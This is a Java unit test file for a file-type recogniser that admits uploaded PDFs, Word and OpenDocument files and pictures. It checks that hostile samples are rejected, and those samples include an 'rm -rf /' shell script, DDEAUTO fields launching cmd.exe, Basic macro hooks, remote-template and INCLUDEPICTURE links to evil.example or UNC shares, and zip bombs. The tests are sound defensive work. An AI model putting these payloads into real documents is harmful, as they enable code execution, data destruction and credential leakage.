package org.calltolocalaction.pledges.files;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.io.InputStream;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.calltolocalaction.pledges.files.AttachFile.Reason;
import org.calltolocalaction.testing.Costs;
import org.calltolocalaction.testing.HostileFiles;
import org.calltolocalaction.testing.SampleFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.core.io.ByteArrayResource;

/** A file is what its content shows it to be. */
class FileTypesTests {

	private final FileTypes types = new FileTypes();

	static Stream<Arguments> taken() {
		return Stream.of(arguments(FileType.PDF, SampleFiles.pdf("Plan")), arguments(FileType.DOCX, SampleFiles.docx()),
				arguments(FileType.DOCX, SampleFiles.docxFromElsewhere()), arguments(FileType.ODT, SampleFiles.odt()),
				arguments(FileType.PNG, SampleFiles.picture("png")),
				arguments(FileType.JPEG, SampleFiles.picture("jpg")));
	}

	@ParameterizedTest
	@MethodSource("taken")
	void documents_and_pictures_are_recognised(FileType type, byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.As(type));
	}

	static Stream<byte[]> notTaken() {
		return Stream.concat(
				Stream
					.of("<!DOCTYPE html><html><script>alert(1)</script></html>",
							"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
							"<?xml version=\"1.0\"?><office:document/>", "#!/bin/sh\nrm -rf /\n",
							"MZ\u0090\u0000\u0003", "{\\rtf1 Plan}", "Only text. ".repeat(1000) + "%PDF-1.4", "x")
					.map(text -> text.getBytes(UTF_8)),
				Stream.of(SampleFiles.zip(), SampleFiles.xlsx(), SampleFiles.ods(), SampleFiles.picture("gif"),
						new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A,
								(byte) 0xE1 }));
	}

	@ParameterizedTest
	@MethodSource("notTaken")
	void whatever_else_it_is_it_is_not_taken_for_a_document(byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.NotTaken(Reason.OTHER_TYPE));
	}

	static Stream<byte[]> withMacros() {
		return Stream.of(SampleFiles.docm(), SampleFiles.docmInDisguise(), SampleFiles.odtWithMacros());
	}

	@ParameterizedTest
	@MethodSource("withMacros")
	void a_document_with_macros_is_told_from_one_without(byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.NotTaken(Reason.WITH_MACROS));
	}

	@Test
	void a_library_without_a_module_is_no_macro() throws IOException {
		String list = "<library:library xmlns:library=\"http://openoffice.org/2000/library\" library:name=\"Standard\">%s</library:library>";

		assertThat(recognise(resource("empty-library.odt"))).isEqualTo(new Recognised.As(FileType.ODT));
		assertThat(recognise(SampleFiles.odtWith("Basic/Standard/script-lb.xml", list.formatted(""))))
			.isEqualTo(new Recognised.As(FileType.ODT));
		assertThat(recognise(SampleFiles.odtWith("Basic/Standard/script-lb.xml",
				list.formatted("<library:element library:name=\"Module1\"/>"))))
			.isEqualTo(new Recognised.NotTaken(Reason.WITH_MACROS));
		assertThat(recognise(SampleFiles.odtWith("Basic/script-lc.xml",
				list.formatted("<library:library library:link=\"true\" xlink:href=\"file://x/y\"/>"))))
			.isEqualTo(new Recognised.NotTaken(Reason.WITH_MACROS));
	}

	@Test
	void a_picture_of_a_telephone_is_told_from_other_files() throws IOException {
		assertThat(recognise(resource("phone.heic"))).isEqualTo(new Recognised.NotTaken(Reason.PHONE_PICTURE));
		for (String brands : List.of("heic", "mif1\0\0\0\0miafheic", "isom\0\0\0\0mif1", "avif\0\0\0\0",
				"heix\0\0\0\0hevx")) {
			byte[] picture = ("\0\0\0\40ftyp" + brands + "\0\0\0\0isomisomisom").getBytes(ISO_8859_1);
			assertThat(recognise(picture)).as(brands).isEqualTo(new Recognised.NotTaken(Reason.PHONE_PICTURE));
		}
		assertThat(recognise("\0\0\0\30ftypisom\0\0\0\0isommp42heic".getBytes(ISO_8859_1)))
			.isEqualTo(new Recognised.NotTaken(Reason.OTHER_TYPE));
	}

	static Stream<byte[]> callingPrograms() {
		return Stream.of(
				SampleFiles.docxWith("word/header1.xml",
						"<w:hdr xmlns:w='urn:w'><w:fldSimple w:instr=' ddeauto c:\\\\cmd.exe \"/k calc\"'/></w:hdr>"),
				SampleFiles.docxWith("word/footnotes.xml", """
						<w:footnotes xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText>
						<w:r/><w:instrText>EAUTO excel</w:instrText><w:fldChar w:fldCharType="end"/></w:footnotes>"""),
				SampleFiles.odtWith("content.xml",
						element("script:event-listener",
								"vnd.sun.star.script:a.b?language=Basic&amp;location=application")),
				SampleFiles.odtWith("content.xml", element("text:a", "macro:///Standard.Module1.Main")),
				SampleFiles.odtWith("content.xml", """
						<o:document-content xmlns:o="urn:o" xmlns:s="http://openoffice.org/2000/script"><o:scripts>
						<s:module s:name="M">Sub Main</s:module></o:scripts></o:document-content>"""),
				SampleFiles.docxWith("word/glossary/document.xml", field("{QUOTE 68 68 69}AUTO excel")), SampleFiles
					.docxWith("word/_rels/document.xml.rels", relationship("aFChunk", "afchunk.mht", "Internal")));
	}

	@ParameterizedTest
	@MethodSource("callingPrograms")
	void a_document_that_calls_a_program_of_the_readers_is_one_with_macros(byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.NotTaken(Reason.WITH_MACROS));
	}

	@ParameterizedTest
	@ValueSource(strings = { " INCLUDEPICTURE \"https://evil.example/a.png\" \\d ", " includetext \\\\evil\\a.docx ",
			" INCLUDEPICTURE \"\\\\\\\\evil.example\\\\share\\\\a.png\"",
			" LINK Excel.Sheet.12 \"https://evil.example/a.xlsx\" A1", " RD https://evil.example/a.docx",
			"INCLUDEPICTURE {QUOTE 104 116 116 112} \\d", " IMPORT file://evil.example/a.png" })
	void a_document_whose_fields_fetch_something_from_another_computer_is_told_from_others(String code)
			throws IOException {
		assertThat(recognise(SampleFiles.docxWith("word/header1.xml", field(code))))
			.isEqualTo(new Recognised.NotTaken(Reason.LINKED));
		assertThat(recognise(SampleFiles.docxWith("word/header1.xml",
				"<w:hdr xmlns:w='urn:w'><w:fldSimple w:instr='%s'/></w:hdr>"
					.formatted(code.replaceAll("\\{[^}]*\\}", "http://evil")))))
			.isEqualTo(new Recognised.NotTaken(Reason.LINKED));
	}

	@ParameterizedTest
	@ValueSource(strings = { " INCLUDEPICTURE \"C:\\\\Users\\\\ana\\\\a.png\" \\* MERGEFORMAT \\d ", " PAGE ",
			" HYPERLINK \"https://www.example.org\" ", " IF {PAGE} = 1 \"https://www.example.org\" \"\" ",
			" TOC \\o \"1-3\" \\h \\z \\u ", " = {PAGE} + 1 ", " INCLUDETEXT annex.docx " })
	void a_document_whose_fields_fetch_nothing_from_elsewhere_is_taken(String code) throws IOException {
		assertThat(recognise(SampleFiles.docxWith("word/header1.xml", field(code))))
			.isEqualTo(new Recognised.As(FileType.DOCX));
	}

	/** A field that says this; a field within it stands in braces. */
	private static String field(String code) {
		String begin = "<w:fldChar w:fldCharType='begin'/>";
		String shows = "<w:fldChar w:fldCharType='separate'/><w:t>https://www.example.org</w:t>";
		String end = "<w:fldChar w:fldCharType='end'/>";
		String said = code.replace("{", "</w:instrText>" + begin + "<w:instrText>")
			.replace("}", "</w:instrText>" + shows + end + "<w:instrText>");
		return "<w:hdr xmlns:w='urn:w'>" + begin + "<w:instrText>" + said + "</w:instrText>" + shows + begin
				+ "<w:instrText>PAGE</w:instrText>" + end + end + "</w:hdr>";
	}

	@Test
	void fields_that_call_nothing_are_taken() throws IOException {
		assertThat(recognise(SampleFiles.docxWith("word/header1.xml", """
				<w:hdr xmlns:w="urn:w"><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE DD</w:instrText>
				<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="begin"/><w:instrText>E</w:instrText>
				<w:t>DDEAUTO is a field of Word</w:t></w:hdr>"""))).isEqualTo(new Recognised.As(FileType.DOCX));
	}

	static Stream<byte[]> loadingFromElsewhere() {
		return Stream.concat(
				Stream
					.of(relationship("attachedTemplate", "https://evil.example/a.dotm", "External"),
							relationship("attachedTemplate", "file://evil.example/share/a.dotm", "External"),
							relationship("attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm", "External"),
							relationship("attachedTemplate", "\\\\evil.example\\share\\a.dotm", "external"),
							relationship("image", "http://evil.example/a.png", "External"),
							relationship("oleObject", "mhtml:http://evil.example/x!a", "External"))
					.map(relations -> SampleFiles.docxWith("word/_rels/settings.xml.rels", relations)),
				Stream
					.of(element("draw:image", "https://evil.example/a.png"),
							element("draw:floating-frame", "https://evil.example/"),
							element("text:section-source", "//evil.example/a.odt"),
							element("draw:fill-image", "https://evil.example/a.png"),
							element("meta:template", "https://evil.example/a.ott"), element("office:dde-source", ""))
					.flatMap(content -> Stream.of("content.xml", "styles.xml", "meta.xml", "Object 1/content.xml")
						.map(part -> SampleFiles.odtWith(part, content))));
	}

	@ParameterizedTest
	@MethodSource("loadingFromElsewhere")
	void a_document_that_loads_parts_from_another_computer_is_told_from_others(byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.NotTaken(Reason.LINKED));
	}

	static Stream<Arguments> linking() {
		return Stream.of(
				arguments(FileType.DOCX,
						SampleFiles.docxWith("word/_rels/document.xml.rels",
								relationship("hyperlink", "https://www.example.org", "External"))),
				arguments(FileType.DOCX,
						SampleFiles.docxWith("word/_rels/document.xml.rels",
								relationship("image", "media/image1.png", "Internal"))),
				arguments(FileType.DOCX,
						SampleFiles.docxWith("word/_rels/settings.xml.rels",
								relationship("attachedTemplate", "file:///C:\\Users\\ana\\Letter.dotx", "External"))),
				arguments(FileType.ODT,
						SampleFiles.odtWith("content.xml", element("text:a", "https://www.example.org"))),
				arguments(FileType.ODT,
						SampleFiles.odtWith("content.xml", element("draw:image", "data:image/png;base64,AAAA"))),
				arguments(FileType.ODT,
						SampleFiles.odtWith("meta.xml",
								element("meta:template", "file://localhost/home/ana/letter.ott"))),
				arguments(FileType.ODT,
						SampleFiles.odtWith("content.xml", element("draw:image", "Pictures/image1.png"))));
	}

	@ParameterizedTest
	@MethodSource("linking")
	void a_document_that_only_links_is_taken(FileType type, byte[] content) throws IOException {
		assertThat(recognise(content)).isEqualTo(new Recognised.As(type));
	}

	@Test
	void a_document_with_a_password_is_told_from_a_damaged_one() throws IOException {
		byte[] word = ("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1....E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0")
			.getBytes(ISO_8859_1);
		byte[] open = SampleFiles.odtWith("META-INF/manifest.xml",
				"<m:manifest xmlns:m='urn:m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>");

		assertThat(recognise(word)).isEqualTo(new Recognised.NotTaken(Reason.LOCKED));
		assertThat(recognise(open)).isEqualTo(new Recognised.NotTaken(Reason.LOCKED));
	}

	@ParameterizedTest
	@ValueSource(strings = { "content.xml", "meta.xml", "Object 1/content.xml" })
	void a_document_whose_parts_nobody_can_read_is_damaged(String part) throws IOException {
		assertThat(recognise(SampleFiles.odtWith(part, "\u0003encrypted")))
			.isEqualTo(new Recognised.NotTaken(Reason.DAMAGED));
	}

	private static String relationship(String type, String target, String mode) {
		return """
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
				Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/>
				</Relationships>"""
			.formatted(type, target, mode);
	}

	private static String element(String name, String address) {
		return """
				<office:document-content xmlns:office="urn:office" xmlns:draw="urn:draw" xmlns:text="urn:text"
				xmlns:meta="urn:meta" xmlns:script="urn:script" xmlns:xlink="http://www.w3.org/1999/xlink"><%s xlink:href="%s"/></office:document-content>"""
			.formatted(name, address);
	}

	private byte[] resource(String name) throws IOException {
		try (InputStream file = getClass().getResourceAsStream("/files/" + name)) {
			return file.readAllBytes();
		}
	}

	@Test
	void an_archive_of_which_the_end_is_missing_is_damaged() throws IOException {
		byte[] whole = SampleFiles.docx();

		assertThat(recognise(Arrays.copyOf(whole, whole.length - 30)))
			.isEqualTo(new Recognised.NotTaken(Reason.DAMAGED));
	}

	@Test
	void a_document_that_unpacks_to_far_more_than_it_is_is_not_taken() throws Exception {
		byte[] file = HostileFiles.bomb(
				Map.of("[Content_Types].xml", "<Override ContentType=\"" + FileType.DOCX.mediaType() + ".main+xml\"/>"),
				300);

		assertThat(file).hasSizeLessThan(400_000);
		assertThat(Costs.within(16, 2, () -> recognise(file))).isEqualTo(new Recognised.NotTaken(Reason.EXCESSIVE));
	}

	@Test
	void an_archive_of_a_hundred_thousand_parts_is_not_taken() throws Exception {
		byte[] file = HostileFiles.crowded(Map.of("mimetype", FileType.ODT.mediaType()), 100_000);

		assertThat(Costs.within(16, 2, () -> recognise(file))).isEqualTo(new Recognised.NotTaken(Reason.EXCESSIVE));
	}

	@Test
	void a_document_with_a_part_twice_is_not_taken() throws IOException {
		byte[] file = HostileFiles.archive(new LinkedHashMap<>(
				Map.of("mimetype", FileType.ODT.mediaType(), "content1.xml", "<a/>", "content2.xml", "<b/>")));

		assertThat(recognise(file)).isEqualTo(new Recognised.As(FileType.ODT));
		assertThat(recognise(HostileFiles.renamed(file, "content2.xml", "content1.xml")))
			.isEqualTo(new Recognised.NotTaken(Reason.DAMAGED));
	}

	private Recognised recognise(byte[] content) throws IOException {
		return types.recognise(new ByteArrayResource(content));
	}

}
